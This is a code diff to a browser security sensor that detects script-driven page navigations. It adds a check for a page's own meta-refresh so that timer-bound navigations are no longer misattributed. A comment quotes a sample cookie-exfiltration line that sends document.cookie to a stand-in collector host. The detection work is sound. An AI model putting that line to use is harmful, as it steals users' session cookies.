@@ -10,16 +10,17 @@
  * `via: 'navigation'`, like a window opened there (page-requests.main.ts); one to a data: or blob: document
  * as an inserted script, `how: 'navigation'` (main/code-document.ts). Not reported: the person's own
  * navigations (`userInitiated`: a link they clicked, a form they sent), form submissions (the form hooks
- * report those, `via: 'form'`), events the page dispatches itself (not `isTrusted`), navigations with no
- * script on the stack (a `<meta http-equiv=refresh>`: page-requests.main.ts judges its attributes when a
- * script sets them). A link a script follows into a new window or a named frame, and every link a script
+ * report those, `via: 'form'`), events the page dispatches itself (not `isTrusted`), and a
+ * `<meta http-equiv=refresh>` to the destination with no script on the stack (page-requests.main.ts judges
+ * its attributes when a script sets them). A link a script follows into a new window or a named frame, and every link a script
  * follows in a browser without the API, are main/link-follow.ts's. Not seen: other navigations away from a
  * frame's first, empty document (about:blank fires no navigate event), and `location` navigations in a
  * browser without the API; the network timeline, which lists resources and not documents, does not catch
  * them either.
  */
 import { codeDocumentReporter } from '../main/code-document.ts';
-import { listen, nodeName } from '../main/natives.ts';
+import { documentQuerySelectorAll, getAttribute, listen, nodeName, resolveUrl } from '../main/natives.ts';
+import { isRefresh, refreshUrl } from '../main/refresh-url.ts';
 import { requestReporter } from '../main/request-report.ts';
 import { isPageSide, type MainSensor } from '../main/sensor.ts';
 import { getterOf, globalPrototype } from '../main/strings.ts';
@@ -33,6 +34,27 @@ const formData = getterOf<FormData | null>(globalPrototype('NavigateEvent'), 'fo
 const sourceElement = getterOf<Element | null>(globalPrototype('NavigateEvent'), 'sourceElement');
 const destinationUrl = getterOf<string>(globalPrototype('NavigationDestination'), 'url');
 const sameDocument = getterOf<boolean>(globalPrototype('NavigationDestination'), 'sameDocument');
+
+/**
+ * Whether a `<meta http-equiv=refresh>` in `document` sends it to `url`: the one navigation here the browser
+ * starts with no script on the stack and nobody's click, so the page's own. Any other navigation with an empty
+ * stack is a native the page bound and handed to a timer or a promise
+ * (`setTimeout(location.assign.bind(location), 0, 'https://collector/?c=' + document.cookie)`): it names nobody,
+ * and it was taken for the shop's and never reported.
+ */
+function refreshesTo(document: Document, url: string): boolean {
+  try {
+    const metas = documentQuerySelectorAll(document, 'meta[http-equiv]');
+    for (let i = 0; i < metas.length; i++) {
+      if (!isRefresh(getAttribute(metas[i]!, 'http-equiv'))) continue;
+      const to = refreshUrl(getAttribute(metas[i]!, 'content'));
+      if (to !== null && resolveUrl(to) === url) return true;
+    }
+  } catch {
+    // A page's odd markup (or a NodeList it rewired) is no refresh of the page's.
+  }
+  return false;
+}
 
 export const navigationsSensor: MainSensor = {
   id: 'navigations',
@@ -61,10 +83,12 @@ export const navigationsSensor: MainSensor = {
         const url = destinationUrl(to);
         // What is reported here leaves before the listener returns (flushNow): the document may be gone before
         // a port message's task would run — a frame sent to a data: document commits at once.
-        if (codeDocument(url, 'navigation', true)) return context.flushNow();
+        // An empty stack is the page's only for its own refresh to this URL (above).
+        const refresh = refreshesTo(realm.document, url);
+        if (codeDocument(url, 'navigation', refresh)) return context.flushNow();
         if (!site.needsActor(url)) return;
         // An inline script's actor leaves without its SHA-256: hashing takes a task the document may not have.
-        const { actor } = attribution.attribute(true);
+        const { actor } = attribution.attribute(refresh);
         if (isPageSide(actor, site)) return;
         send('navigation', url, 'GET', 0, { actor });
         context.flushNow();
